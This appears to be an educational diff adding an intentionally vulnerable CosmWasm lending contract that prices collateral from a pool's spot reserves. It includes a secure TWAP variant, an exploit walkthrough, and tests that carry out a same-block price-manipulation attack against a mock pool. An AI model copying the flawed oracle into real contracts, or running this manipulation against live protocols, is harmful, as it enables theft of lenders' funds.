@@ -0,0 +1,596 @@
+/*
+ * VULNERABLE COSMWASM CONTRACT - DO NOT USE IN PRODUCTION
+ *
+ * Spot-Price Oracle Trust
+ *
+ * This lending contract values collateral using a DEX pool's instantaneous
+ * reserves. Anyone can move those reserves with a large swap, borrow
+ * against the inflated price, and swap back - all in the same block.
+ */
+
+use cosmwasm_schema::cw_serde;
+#[cfg(not(feature = "library"))]
+use cosmwasm_std::entry_point;
+use cosmwasm_std::{
+    to_json_binary, Addr, BankMsg, Binary, Coin, Decimal, Deps, DepsMut, Env, MessageInfo,
+    Response, StdError, StdResult, Uint128,
+};
+use cw_storage_plus::{Item, Map};
+
+#[cw_serde]
+pub struct Config {
+    pub pool: Addr,
+    pub collateral_denom: String,
+    pub borrow_denom: String,
+    pub max_ltv: Decimal,
+}
+
+#[cw_serde]
+#[derive(Default)]
+pub struct Position {
+    pub collateral: Uint128,
+    pub debt: Uint128,
+}
+
+pub const CONFIG: Item<Config> = Item::new("config");
+pub const POSITIONS: Map<&Addr, Position> = Map::new("positions");
+
+#[cw_serde]
+pub struct InstantiateMsg {
+    pub pool: String,
+    pub collateral_denom: String,
+    pub borrow_denom: String,
+    pub max_ltv: Decimal,
+}
+
+#[cw_serde]
+pub enum ExecuteMsg {
+    DepositCollateral {},
+    Borrow { amount: Uint128 },
+}
+
+#[cw_serde]
+pub enum QueryMsg {
+    Position { address: String },
+    CollateralPrice {},
+}
+
+/// Query interface of the constant-product pool being trusted
+#[cw_serde]
+pub enum PoolQueryMsg {
+    Reserves {},
+}
+
+#[cw_serde]
+pub struct ReservesResponse {
+    pub reserves: Vec<Coin>,
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn instantiate(
+    deps: DepsMut,
+    _env: Env,
+    _info: MessageInfo,
+    msg: InstantiateMsg,
+) -> StdResult<Response> {
+    let pool = deps.api.addr_validate(&msg.pool)?;
+    CONFIG.save(
+        deps.storage,
+        &Config {
+            pool,
+            collateral_denom: msg.collateral_denom,
+            borrow_denom: msg.borrow_denom,
+            max_ltv: msg.max_ltv,
+        },
+    )?;
+    Ok(Response::new().add_attribute("action", "instantiate"))
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn execute(
+    deps: DepsMut,
+    _env: Env,
+    info: MessageInfo,
+    msg: ExecuteMsg,
+) -> StdResult<Response> {
+    match msg {
+        ExecuteMsg::DepositCollateral {} => deposit_collateral(deps, info),
+        ExecuteMsg::Borrow { amount } => borrow(deps, info, amount),
+    }
+}
+
+pub fn deposit_collateral(deps: DepsMut, info: MessageInfo) -> StdResult<Response> {
+    let config = CONFIG.load(deps.storage)?;
+    let amount = cw_utils::must_pay(&info, &config.collateral_denom)
+        .map_err(|err| StdError::generic_err(err.to_string()))?;
+
+    POSITIONS.update(deps.storage, &info.sender, |position| -> StdResult<_> {
+        let mut position = position.unwrap_or_default();
+        position.collateral = position.collateral.checked_add(amount)?;
+        Ok(position)
+    })?;
+
+    Ok(Response::new().add_attribute("action", "deposit_collateral"))
+}
+
+/// Price of one unit of collateral, in borrow units
+pub fn spot_price(deps: Deps, config: &Config) -> StdResult<Decimal> {
+    // VULNERABILITY 1: Instantaneous pool reserves used as the oracle
+    // Reserves reflect whatever the last swap in this block left behind
+    let reserves: ReservesResponse = deps
+        .querier
+        .query_wasm_smart(&config.pool, &PoolQueryMsg::Reserves {})?;
+
+    let reserve_of = |denom: &str| {
+        reserves
+            .reserves
+            .iter()
+            .find(|coin| coin.denom == denom)
+            .map(|coin| coin.amount)
+            .unwrap_or_default()
+    };
+
+    let collateral_reserve = reserve_of(&config.collateral_denom);
+    let borrow_reserve = reserve_of(&config.borrow_denom);
+
+    // VULNERABILITY 2: No staleness window, no deviation bound, no TWAP
+    Decimal::checked_from_ratio(borrow_reserve, collateral_reserve)
+        .map_err(|err| StdError::generic_err(err.to_string()))
+}
+
+pub fn borrow(deps: DepsMut, info: MessageInfo, amount: Uint128) -> StdResult<Response> {
+    let config = CONFIG.load(deps.storage)?;
+    let mut position = POSITIONS.load(deps.storage, &info.sender)?;
+
+    // VULNERABILITY 3: Borrow capacity follows the manipulable spot price
+    let price = spot_price(deps.as_ref(), &config)?;
+    let collateral_value = position.collateral.mul_floor(price);
+    let max_debt = collateral_value.mul_floor(config.max_ltv);
+
+    let new_debt = position.debt.checked_add(amount)?;
+    if new_debt > max_debt {
+        return Err(StdError::generic_err("Insufficient collateral"));
+    }
+
+    position.debt = new_debt;
+    POSITIONS.save(deps.storage, &info.sender, &position)?;
+
+    Ok(Response::new()
+        .add_message(BankMsg::Send {
+            to_address: info.sender.to_string(),
+            amount: vec![Coin::new(amount, config.borrow_denom)],
+        })
+        .add_attribute("action", "borrow")
+        .add_attribute("price", price.to_string()))
+}
+
+#[cfg_attr(not(feature = "library"), entry_point)]
+pub fn query(deps: Deps, _env: Env, msg: QueryMsg) -> StdResult<Binary> {
+    match msg {
+        QueryMsg::Position { address } => {
+            let address = deps.api.addr_validate(&address)?;
+            to_json_binary(
+                &POSITIONS
+                    .may_load(deps.storage, &address)?
+                    .unwrap_or_default(),
+            )
+        }
+        QueryMsg::CollateralPrice {} => {
+            let config = CONFIG.load(deps.storage)?;
+            to_json_binary(&spot_price(deps, &config)?)
+        }
+    }
+}
+
+/*
+ * SECURE VERSION (TWAP):
+ *
+ * The pool maintains Uniswap-V2-style cumulative prices, carried forward
+ * with the pre-swap reserves before every swap - so a swap in the current
+ * block cannot move what has already accrued. The lending contract averages
+ * them over at least TWAP_WINDOW_SECONDS. Production protocols additionally
+ * cross-check an external oracle (Pyth, Band, Slinky) and bound the
+ * deviation between the two.
+ */
+pub mod secure {
+    use super::{deposit_collateral, InstantiateMsg, QueryMsg, CONFIG, POSITIONS};
+    use cosmwasm_schema::cw_serde;
+    use cosmwasm_std::{
+        to_json_binary, BankMsg, Binary, Coin, Decimal, Decimal256, Deps, DepsMut, Env,
+        MessageInfo, Response, StdError, StdResult, Uint128,
+    };
+    use cw_storage_plus::Item;
+
+    pub const TWAP_WINDOW_SECONDS: u64 = 30 * 60;
+
+    #[cw_serde]
+    pub enum ExecuteMsg {
+        DepositCollateral {},
+        Borrow {
+            amount: Uint128,
+        },
+        /// Moves the start of the averaging window forward
+        RecordObservation {},
+    }
+
+    #[cw_serde]
+    pub enum PoolQueryMsg {
+        Reserves {},
+        CumulativePrice { denom: String },
+    }
+
+    #[cw_serde]
+    pub struct CumulativePriceResponse {
+        /// Sum of (collateral price * seconds)
+        pub price_cumulative: Decimal256,
+        pub timestamp: u64,
+    }
+
+    pub type Observation = CumulativePriceResponse;
+
+    pub const LAST_OBSERVATION: Item<Observation> = Item::new("last_observation");
+
+    pub fn instantiate(
+        mut deps: DepsMut,
+        env: Env,
+        info: MessageInfo,
+        msg: InstantiateMsg,
+    ) -> StdResult<Response> {
+        let response = super::instantiate(deps.branch(), env, info, msg)?;
+        let config = CONFIG.load(deps.storage)?;
+        let observation = observe(deps.as_ref(), &config)?;
+        LAST_OBSERVATION.save(deps.storage, &observation)?;
+        Ok(response)
+    }
+
+    pub fn execute(
+        deps: DepsMut,
+        env: Env,
+        info: MessageInfo,
+        msg: ExecuteMsg,
+    ) -> StdResult<Response> {
+        match msg {
+            ExecuteMsg::DepositCollateral {} => deposit_collateral(deps, info),
+            ExecuteMsg::Borrow { amount } => borrow(deps, env, info, amount),
+            ExecuteMsg::RecordObservation {} => record_observation(deps),
+        }
+    }
+
+    fn observe(deps: Deps, config: &super::Config) -> StdResult<Observation> {
+        deps.querier.query_wasm_smart(
+            &config.pool,
+            &PoolQueryMsg::CumulativePrice {
+                denom: config.collateral_denom.clone(),
+            },
+        )
+    }
+
+    pub fn twap_price(deps: Deps, config: &super::Config) -> StdResult<Decimal> {
+        let current = observe(deps, config)?;
+        let previous = LAST_OBSERVATION.load(deps.storage)?;
+
+        // CHECK: The averaging window must be long enough to be expensive
+        // to manipulate
+        let elapsed = current
+            .timestamp
+            .checked_sub(previous.timestamp)
+            .ok_or_else(|| StdError::generic_err("Invalid observation"))?;
+        if elapsed < TWAP_WINDOW_SECONDS {
+            return Err(StdError::generic_err("TWAP window too short"));
+        }
+
+        // SAFE: Average price over the window, not the instantaneous ratio
+        let average = (current.price_cumulative - previous.price_cumulative)
+            / Decimal256::from_ratio(elapsed, 1u64);
+        Decimal::try_from(average).map_err(|err| StdError::generic_err(err.to_string()))
+    }
+
+    // Keeper (or anyone) records an observation at most once per window
+    pub fn record_observation(deps: DepsMut) -> StdResult<Response> {
+        let config = CONFIG.load(deps.storage)?;
+        let current = observe(deps.as_ref(), &config)?;
+        let previous = LAST_OBSERVATION.load(deps.storage)?;
+        if current.timestamp < previous.timestamp + TWAP_WINDOW_SECONDS {
+            return Err(StdError::generic_err("Observation too recent"));
+        }
+        LAST_OBSERVATION.save(deps.storage, &current)?;
+        Ok(Response::new().add_attribute("action", "record_observation"))
+    }
+
+    pub fn borrow(
+        deps: DepsMut,
+        _env: Env,
+        info: MessageInfo,
+        amount: Uint128,
+    ) -> StdResult<Response> {
+        let config = CONFIG.load(deps.storage)?;
+        let mut position = POSITIONS.load(deps.storage, &info.sender)?;
+
+        // SAFE: Borrow capacity follows the time-weighted price
+        let price = twap_price(deps.as_ref(), &config)?;
+        let collateral_value = position.collateral.mul_floor(price);
+        let max_debt = collateral_value.mul_floor(config.max_ltv);
+
+        let new_debt = position.debt.checked_add(amount)?;
+        if new_debt > max_debt {
+            return Err(StdError::generic_err("Insufficient collateral"));
+        }
+
+        position.debt = new_debt;
+        POSITIONS.save(deps.storage, &info.sender, &position)?;
+
+        Ok(Response::new()
+            .add_message(BankMsg::Send {
+                to_address: info.sender.to_string(),
+                amount: vec![Coin::new(amount, config.borrow_denom)],
+            })
+            .add_attribute("action", "borrow")
+            .add_attribute("price", price.to_string()))
+    }
+
+    pub fn query(deps: Deps, _env: Env, msg: QueryMsg) -> StdResult<Binary> {
+        match msg {
+            QueryMsg::Position { address } => {
+                let address = deps.api.addr_validate(&address)?;
+                to_json_binary(
+                    &POSITIONS
+                        .may_load(deps.storage, &address)?
+                        .unwrap_or_default(),
+                )
+            }
+            QueryMsg::CollateralPrice {} => {
+                let config = CONFIG.load(deps.storage)?;
+                to_json_binary(&twap_price(deps, &config)?)
+            }
+        }
+    }
+}
+
+/*
+ * EXPLOIT SCENARIO:
+ *
+ * 1. Pool holds 1,000,000 uatom / 1,000,000 uusd (price 1.0), LTV is 50%
+ * 2. Attacker deposits 1,000 uatom collateral (fair borrow limit: 500 uusd)
+ * 3. In the same block, attacker swaps 3,000,000 uusd into the pool:
+ *    reserves become 250,000 uatom / 4,000,000 uusd (price 16.0)
+ * 4. Attacker borrows 8,000 uusd against collateral now "worth" 16,000
+ * 5. Attacker swaps the 750,000 uatom back, restoring the pool and
+ *    recovering the 3,000,000 uusd
+ * 6. Attacker walks away with 8,000 uusd and abandons 1,000 uatom of
+ *    collateral: 7,000 uusd of bad debt for the protocol per round
+ */
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cosmwasm_std::{coin, coins, Empty};
+    use cw_multi_test::{App, AppBuilder, Contract, ContractWrapper, Executor};
+
+    const ATOM: &str = "uatom";
+    const USD: &str = "uusd";
+
+    /// Minimal constant-product pool used as the manipulated price source
+    mod mock_pool {
+        use super::*;
+
+        #[cw_serde]
+        pub enum ExecuteMsg {
+            Swap {},
+        }
+
+        pub fn instantiate(
+            _deps: DepsMut,
+            _env: Env,
+            _info: MessageInfo,
+            _msg: Empty,
+        ) -> StdResult<Response> {
+            Ok(Response::new())
+        }
+
+        pub fn execute(
+            deps: DepsMut,
+            env: Env,
+            info: MessageInfo,
+            _msg: ExecuteMsg,
+        ) -> StdResult<Response> {
+            let offer =
+                cw_utils::one_coin(&info).map_err(|err| StdError::generic_err(err.to_string()))?;
+            let ask_denom = if offer.denom == ATOM { USD } else { ATOM };
+
+            // Funds are already credited, so subtract them for the pre-swap reserve
+            let offer_reserve = deps
+                .querier
+                .query_balance(&env.contract.address, &offer.denom)?
+                .amount
+                .checked_sub(offer.amount)?;
+            let ask_reserve = deps
+                .querier
+                .query_balance(&env.contract.address, ask_denom)?
+                .amount;
+
+            let out = ask_reserve.multiply_ratio(offer.amount, offer_reserve + offer.amount);
+
+            Ok(Response::new().add_message(BankMsg::Send {
+                to_address: info.sender.to_string(),
+                amount: vec![Coin::new(out, ask_denom)],
+            }))
+        }
+
+        pub fn query(deps: Deps, env: Env, _msg: PoolQueryMsg) -> StdResult<Binary> {
+            let reserves = vec![
+                deps.querier.query_balance(&env.contract.address, ATOM)?,
+                deps.querier.query_balance(&env.contract.address, USD)?,
+            ];
+            to_json_binary(&ReservesResponse { reserves })
+        }
+    }
+
+    fn pool_contract() -> Box<dyn Contract<Empty>> {
+        Box::new(ContractWrapper::new(
+            mock_pool::execute,
+            mock_pool::instantiate,
+            mock_pool::query,
+        ))
+    }
+
+    fn lending_contract() -> Box<dyn Contract<Empty>> {
+        Box::new(ContractWrapper::new(execute, instantiate, query))
+    }
+
+    struct Setup {
+        app: App,
+        attacker: Addr,
+        pool: Addr,
+        lending: Addr,
+    }
+
+    fn setup() -> Setup {
+        let mut app = AppBuilder::new().build(|_, _, _| {});
+        let owner = app.api().addr_make("owner");
+        let attacker = app.api().addr_make("attacker");
+
+        app.init_modules(|router, _, storage| {
+            router
+                .bank
+                .init_balance(
+                    storage,
+                    &owner,
+                    vec![coin(1_000_000, ATOM), coin(2_000_000, USD)],
+                )
+                .unwrap();
+            router
+                .bank
+                .init_balance(
+                    storage,
+                    &attacker,
+                    vec![coin(1_000, ATOM), coin(3_000_000, USD)],
+                )
+                .unwrap();
+        });
+
+        let pool_code = app.store_code(pool_contract());
+        let pool = app
+            .instantiate_contract(
+                pool_code,
+                owner.clone(),
+                &Empty {},
+                &[coin(1_000_000, ATOM), coin(1_000_000, USD)],
+                "pool",
+                None,
+            )
+            .unwrap();
+
+        let lending_code = app.store_code(lending_contract());
+        let lending = app
+            .instantiate_contract(
+                lending_code,
+                owner.clone(),
+                &InstantiateMsg {
+                    pool: pool.to_string(),
+                    collateral_denom: ATOM.to_string(),
+                    borrow_denom: USD.to_string(),
+                    max_ltv: Decimal::percent(50),
+                },
+                &coins(1_000_000, USD),
+                "lending",
+                None,
+            )
+            .unwrap();
+
+        Setup {
+            app,
+            attacker,
+            pool,
+            lending,
+        }
+    }
+
+    #[test]
+    fn fair_price_limits_borrowing() {
+        let Setup {
+            mut app,
+            attacker,
+            lending,
+            ..
+        } = setup();
+
+        app.execute_contract(
+            attacker.clone(),
+            lending.clone(),
+            &ExecuteMsg::DepositCollateral {},
+            &coins(1_000, ATOM),
+        )
+        .unwrap();
+
+        // 1,000 uatom at price 1.0 and 50% LTV allows at most 500 uusd
+        app.execute_contract(
+            attacker.clone(),
+            lending.clone(),
+            &ExecuteMsg::Borrow {
+                amount: Uint128::new(501),
+            },
+            &[],
+        )
+        .unwrap_err();
+    }
+
+    #[test]
+    fn exploit_same_block_price_manipulation() {
+        let Setup {
+            mut app,
+            attacker,
+            pool,
+            lending,
+        } = setup();
+
+        app.execute_contract(
+            attacker.clone(),
+            lending.clone(),
+            &ExecuteMsg::DepositCollateral {},
+            &coins(1_000, ATOM),
+        )
+        .unwrap();
+
+        // Pump the collateral price: 1,000,000/1,000,000 -> 250,000/4,000,000
+        app.execute_contract(
+            attacker.clone(),
+            pool.clone(),
+            &mock_pool::ExecuteMsg::Swap {},
+            &coins(3_000_000, USD),
+        )
+        .unwrap();
+
+        let price: Decimal = app
+            .wrap()
+            .query_wasm_smart(&lending, &QueryMsg::CollateralPrice {})
+            .unwrap();
+        assert_eq!(price, Decimal::from_ratio(16u128, 1u128));
+
+        // Borrow 16x the fair limit against the inflated price
+        app.execute_contract(
+            attacker.clone(),
+            lending.clone(),
+            &ExecuteMsg::Borrow {
+                amount: Uint128::new(8_000),
+            },
+            &[],
+        )
+        .unwrap();
+
+        // Swap back, restoring the pool and recovering the capital
+        let atom_received = app.wrap().query_balance(&attacker, ATOM).unwrap().amount;
+        app.execute_contract(
+            attacker.clone(),
+            pool.clone(),
+            &mock_pool::ExecuteMsg::Swap {},
+            &coins(atom_received.u128(), ATOM),
+        )
+        .unwrap();
+
+        // Attacker started with 3,000,000 uusd and 1,000 uatom of collateral;
+        // they now hold 3,008,000 uusd and left the collateral behind
+        let usd = app.wrap().query_balance(&attacker, USD).unwrap().amount;
+        assert_eq!(usd, Uint128::new(3_008_000));
+        assert!(usd > Uint128::new(3_000_000 + 1_000));
+    }
+}